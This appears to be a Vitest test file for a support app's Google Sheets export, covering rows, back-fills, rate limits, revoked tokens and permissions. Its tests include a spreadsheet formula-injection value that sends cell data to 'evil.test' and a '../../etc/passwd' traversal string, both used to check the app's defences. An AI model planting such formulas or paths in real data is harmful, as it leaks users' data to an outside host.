import { beforeAll, expect, test, vi } from 'vitest'
import { databaseOf } from '../../../platform/database/of.js'
import { jobsDone, mailsTo, reactionsDone } from '../../../../test/mail.js'
import { connectGoogle, sheetsStory, soon, startGoogleServer } from '../../../../test/google/google-story.js'
import { story, Visitor } from '../../../../test/story.js'

let world: Awaited<ReturnType<typeof startGoogleServer>>
beforeAll(async () => {
  world = await startGoogleServer()
})

type Story = Awaited<ReturnType<typeof sheetsStory>>

const EXPORTS = '/api/google/sheets/exports'
const namesIn = (rows: string[][]) => rows.slice(1).map(([, name]) => name)
const waitForNames = (names: string[], rows: () => string[][]) =>
  vi.waitFor(() => expect(namesIn(rows())).toEqual(names), soon)

test('each new customer becomes a row with the chosen columns, and no cell runs as a formula', async () => {
  const cast = await sheetsStory(world)
  const { ada, grace, rows, addCustomer } = cast
  await vi.waitFor(() => expect(rows()).toEqual([['ID', 'Name', 'Email', 'Phone', 'Company', 'Created', 'Link']]), soon)
  const formula = '=IMPORTXML(CONCAT("https://evil.test/?", A1))'
  const { id, created_at } = await addCustomer(formula, { email: 'eve@example.test', phone: '+1 555 0100' })
  const visitor = await new Visitor(cast.server.url).arrives(ada.account_id, { name: 'Vera' })
  await grace.data('POST', '/api/customers', { customer: { name: 'Of Globex' } })
  await waitForNames([formula, 'Vera'], rows)
  const url = `/customers/${id}`
  const cells = [id, formula, 'eve@example.test', '+1 555 0100', '', `${created_at}Z`, expect.stringContaining(url)]
  expect(rows()[1]).toEqual(cells)
  expect(rows()[2]?.[0]).toBe(visitor.customer_id)
  await vi.waitFor(async () => expect(await cast.exportOf('customers')).toMatchObject({ written: 2, waiting: 0 }), soon)
  expect(await ada.data('GET', '/api/connected_services')).toMatchObject([
    { service: 'google_sheets', kind: 'account', channel: 'Papercups', state: 'working' },
  ])
})

test('each conversation becomes a row with its first message, without notes', async () => {
  const { ada, ben, rows, server, exportOf } = await sheetsStory(world)
  const columns = ['customer_name', 'first_message', 'source', 'status']
  await ada.data('PUT', `${EXPORTS}/conversations`, { columns })
  expect(await exportOf('conversations')).toMatchObject({ is_on: true, columns })
  const carla = await (await new Visitor(server.url).arrives(ada.account_id, { name: 'Carla' })).opensChat()
  await carla.says('Where is my order?')
  const { id: customer_id } = await ada.data('POST', '/api/customers', { customer: { name: 'Dora' } })
  const message = { body: 'Careful', type: 'note', private: true }
  await ben.data('POST', '/api/conversations', { conversation: { customer_id, message } })
  await vi.waitFor(
    () =>
      expect(rows('Conversations')).toEqual([
        ['ID', 'Customer', 'First message', 'Source', 'Status'],
        [carla.conversation_id, 'Carla', 'Where is my order?', 'chat', 'open'],
        [expect.any(String), 'Dora', '', expect.any(String), 'open'],
      ]),
    soon,
  )
  await carla.says('Hello?')
  await reactionsDone(server)
  expect(rows('Conversations')).toHaveLength(3)
})

test('other columns go to a new tab; renamed and deleted tabs are found or made again', async () => {
  const { ada, google, server, spreadsheet_id, rows, addCustomer } = await sheetsStory(world)
  await addCustomer('One')
  await waitForNames(['One'], rows)
  await ada.data('PUT', `${EXPORTS}/customers`, { columns: ['name', 'metadata'] })
  await addCustomer('Two', { metadata: { plan: 'gold' } })
  await waitForNames(['Two'], () => rows('Customers 2'))
  expect(rows('Customers 2')[1]?.[2]).toBe('{"plan":"gold"}')
  const tabs = google.spreadsheets.get(spreadsheet_id)?.tabs ?? []
  const tab = tabs.find(({ title }) => title === 'Customers 2') ?? expect.fail('there is no tab')
  tab.title = "Ada's people"
  await addCustomer('Three')
  await waitForNames(['Two', 'Three'], () => rows("Ada's people"))
  tabs.splice(tabs.indexOf(tab), 1)
  await addCustomer('Four')
  await waitForNames(['Four'], () => rows('Customers 2'))
  // The deleted rows come back.
  const four = ['Four', 'One', 'Three', 'Two']
  await ada.data('POST', `${EXPORTS}/customers/backfill`)
  await vi.waitFor(() => expect(namesIn(rows('Customers 2')).toSorted()).toEqual(['Carla', ...four]), soon)

  expect((await ada.delete(`${EXPORTS}/customers`)).status).toBe(204)
  await addCustomer('Five')
  await reactionsDone(server)
  await ada.data('PUT', `${EXPORTS}/customers`, { columns: ['name', 'metadata'] })
  await addCustomer('Six')
  await vi.waitFor(() => expect(namesIn(rows('Customers 2'))).toContain('Six'), soon)
  expect(namesIn(rows('Customers 2'))).not.toContain('Five')
})

/** Customers who existed before Carla, each a second after the one before. */
async function earlierCustomers({ server, ada }: Story, count: number) {
  const names = Array.from({ length: count }, (_, n) => `Customer ${n}`)
  await databaseOf(server.platform).pool.query(
    `insert into customers (account_id, name, created_at)
     select $1, name, now() - interval '1 day' + interval '1 second' * place
     from unnest($2::text[]) with ordinality as given (name, place) order by random()`,
    [ada.account_id, names],
  )
  return names
}

test('back-fills earlier customers once and in order, over a lost answer and a limit, and new ones after them', async () => {
  const cast = await sheetsStory(world)
  const { ada, google, rows, addCustomer, exportOf } = cast
  await addCustomer('Known')
  await waitForNames(['Known'], rows)
  const names = await earlierCustomers(cast, 450)
  const limit = { status: 429, reason: 'rateLimitExceeded', headers: { 'retry-after': '1' } }
  google.calls.length = 0
  google.fail('POST spreadsheet/values:append', limit, 'lost answer')
  const { exports } = await ada.data('POST', `${EXPORTS}/customers/backfill`)
  expect(exports[0].backfill.state).toBe('queueing')
  await vi.waitFor(async () => expect((await exportOf('customers')).backfill.total).toBe(451), soon)
  await addCustomer('New')
  await vi.waitFor(
    async () => expect((await exportOf('customers')).backfill).toEqual({ state: 'done', total: 451, written: 451 }),
    soon,
  )
  await waitForNames(['Known', ...names, 'Carla', 'New'], rows)
  // The limited call, the lost one, two further batches and perhaps one for the new customer.
  const appends = google.calls.filter((call) => call === 'POST spreadsheet/values:append')
  expect(appends.length).toBeLessThanOrEqual(5)
  expect(google.calls.filter((call) => call === 'GET spreadsheet/values')).toHaveLength(1)
  await ada.data('POST', `${EXPORTS}/customers/backfill`)
  await vi.waitFor(
    async () => expect((await exportOf('customers')).backfill).toEqual({ state: 'done', total: 0, written: 0 }),
    soon,
  )
  expect(rows()).toHaveLength(454)
})

test('a back-fill stops, goes on, and leaves out who was erased meanwhile', async () => {
  const cast = await sheetsStory(world)
  const { ada, google, rows, exportOf, server } = cast
  await vi.waitFor(() => expect(rows()).toHaveLength(1), soon)
  const names = await earlierCustomers(cast, 30)
  google.setDown({ status: 503 })
  await ada.data('POST', `${EXPORTS}/customers/backfill`)
  const failing = { state: 'failing', failure: 'status 503' }
  const stateOf = async () => (await ada.data('GET', '/api/connected_services'))[0]
  await vi.waitFor(async () => expect(await stateOf()).toMatchObject(failing), soon)
  expect((await ada.delete(`${EXPORTS}/customers/backfill`)).status).toBe(204)
  expect(await exportOf('customers')).toMatchObject({ backfill: { state: 'stopped', total: 0 }, waiting: 0 })
  await ada.data('POST', `${EXPORTS}/customers/backfill`)
  await vi.waitFor(async () => expect((await exportOf('customers')).waiting).toBe(31), soon)
  const { pool } = databaseOf(server.platform)
  const erased = await pool.query<{ id: string }>(
    `select id from customers where account_id = $1 and name = 'Customer 7'`,
    [ada.account_id],
  )
  expect((await ada.delete(`/api/customers/${erased.rows[0]?.id}`)).status).toBe(204)
  google.setDown()
  await pool.query('update connected_services set retry_at = now() where account_id = $1', [ada.account_id])
  await waitForNames([...names.filter((name) => name !== 'Customer 7'), 'Carla'], rows)
  await vi.waitFor(async () => expect(await stateOf()).toMatchObject({ state: 'working', failure: null }), soon)
  expect((await exportOf('customers')).backfill.state).toBe('done')
})

test('a revoked token is said on the page and by one mail, and connecting again goes on in the same sheet', async () => {
  const { ada, ben, google, server, email, connect, rows, addCustomer } = await sheetsStory(world)
  await addCustomer('One')
  await waitForNames(['One'], rows)
  google.revoke(email)
  await addCustomer('Two')
  const stateOf = async () => (await ben.data('GET', '/api/connected_services'))[0]
  await vi.waitFor(
    async () => expect(await stateOf()).toMatchObject({ state: 'revoked', failure: 'invalid_grant' }),
    soon,
  )
  await addCustomer('Three')
  expect((await ada.put('/api/google/sheets/spreadsheet', {})).body.error.message).toContain('Connect again')
  await jobsDone(server)
  const mails = await mailsTo(server, ada.email)
  expect(mails.filter(({ subject }) => subject.includes('Google Sheets'))).toHaveLength(1)
  expect((await ada.data('GET', '/api/google/authorization?client=sheets')).is_revoked).toBe(true)
  await connect()
  await waitForNames(['One', 'Two', 'Three'], rows)
  expect(await stateOf()).toMatchObject({ state: 'working', failure: null, channel: 'Papercups' })
})

test('takes a spreadsheet by its address, and says why Google refuses one', async () => {
  const { ada, google, email, rows, addCustomer, spreadsheet_id, grace } = await sheetsStory(world)
  const choose = (url: string) => ada.put('/api/google/sheets/spreadsheet', { url })
  const problemOf = async (url: string) => {
    const { status, body } = await choose(url)
    expect(status).toBe(422)
    return body.error.errors.url[0]
  }
  for (const odd of ['https://example.test/x', 'hello', '../../etc/passwd', 'https://docs.google.com/spreadsheets/d//'])
    expect(await problemOf(odd)).toBe('is not the address of a spreadsheet')
  expect(await problemOf(`https://docs.google.com/spreadsheets/d/${'x'.repeat(44)}/edit`)).toContain('notFound')
  const closed = google.spreadsheets.add('other@globex.test', 'Closed')
  expect(await problemOf(closed.id)).toContain('does not have permission')
  google.setDown({ status: 500 })
  expect((await choose(closed.id)).body.error.message).toBe('No usable answer from Google: status 500')
  google.setDown()

  await addCustomer('One')
  await waitForNames(['One'], rows)
  const own = google.spreadsheets.add(email, 'Leads')
  const { body } = await choose(`https://docs.google.com/spreadsheets/d/${own.id}/edit?usp=sharing#gid=0`)
  expect(body.data.spreadsheet).toMatchObject({ id: own.id, title: 'Leads' })
  await addCustomer('Two')
  await waitForNames(['Two'], () => google.spreadsheets.rowsOf(own.id, 'Customers'))
  expect(namesIn(google.spreadsheets.rowsOf(spreadsheet_id, 'Customers'))).toEqual(['One'])
  expect(own.tabs.find(({ title }) => title === 'Sheet1')?.rows).toEqual([])
  expect(await grace.data('GET', '/api/google/sheets')).toBeNull()
})

test('members read and do not change; another company has nothing of it', async () => {
  const { ada, ben, grace } = await sheetsStory(world)
  expect(await ben.data('GET', '/api/google/sheets')).toMatchObject({ spreadsheet: { title: 'Papercups' } })
  const calls = [
    ['PUT', '/api/google/sheets/spreadsheet', {}],
    ['PUT', `${EXPORTS}/customers`, { columns: ['name'] }],
    ['DELETE', `${EXPORTS}/customers`],
    ['POST', `${EXPORTS}/customers/backfill`],
    ['DELETE', `${EXPORTS}/customers/backfill`],
  ] as const
  for (const [method, path, body] of calls) {
    expect((await ben.call(method, path, body)).status).toBe(403)
    expect((await grace.call(method, path, body)).body.error.message).toBe('Authorization required')
  }
  for (const columns of [[], ['id'], ['name', 'name'], ['constructor'], 'name', [5]])
    expect((await ada.put(`${EXPORTS}/customers`, { columns })).status).toBe(422)
  expect((await ada.put(`${EXPORTS}/messages`, { columns: ['name'] })).status).toBe(400)
  expect((await ada.post(`${EXPORTS}/conversations/backfill`)).body.error.message).toBe('Turn the rows on first.')

  const { id } = await ada.data('GET', '/api/google/authorization?client=sheets')
  expect((await ben.delete(`/api/google/authorizations/${id}`)).status).toBe(403)
  expect((await grace.delete(`/api/google/authorizations/${id}`)).status).toBe(404)
  expect((await ada.delete(`/api/google/authorizations/${id}`)).status).toBe(204)
  expect(await ada.data('GET', '/api/google/sheets')).toBeNull()
})

test('without a spreadsheet nothing can be turned on', async () => {
  const { ada } = await story(world.server)
  expect((await connectGoogle(world.google, ada, 'new@acme.test', { client: 'sheets' })).status).toBe(200)
  expect(await ada.data('GET', '/api/google/sheets')).toMatchObject({
    spreadsheet: null,
    exports: [
      { record: 'customers', is_on: false, backfill: null },
      { record: 'conversations', is_on: false },
    ],
  })
  const { status, body } = await ada.put(`${EXPORTS}/customers`, { columns: ['name'] })
  expect([status, body.error.message]).toEqual([400, 'Choose a spreadsheet first.'])
})
